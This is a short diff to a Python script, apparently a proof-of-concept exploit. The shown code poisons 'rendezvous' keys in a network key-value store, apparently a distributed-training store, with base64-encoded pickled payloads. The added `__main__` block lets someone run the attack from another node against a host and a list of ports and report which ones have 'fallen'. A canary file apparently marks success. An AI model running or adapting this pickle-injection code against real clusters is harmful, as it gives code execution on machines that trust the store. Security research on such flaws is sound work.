@@ -5,7 +5,9 @@ from __future__ import annotations
 import base64
 import contextlib
 import ipaddress
+import os
 import pickle
+import sys
 import threading
 from datetime import timedelta
 from pathlib import Path
@@ -85,3 +87,9 @@ def _overwrite(host: str, port: int, canary: Path, overwritten: list[str]) -> No
             if "rendezvous" in key:
                 store.set(key.removeprefix("/"), base64.b64encode(pickle.dumps(Payload(canary))))
                 overwritten.append(key)
+
+
+if __name__ == "__main__":  # from another node: HOST CANARY PORT...
+    fallen = [port for port in sys.argv[3:] if attack(sys.argv[1], int(port), Path(sys.argv[2]))]
+    print("fallen:", *fallen, flush=True)
+    os._exit(0)  # a thread may hang
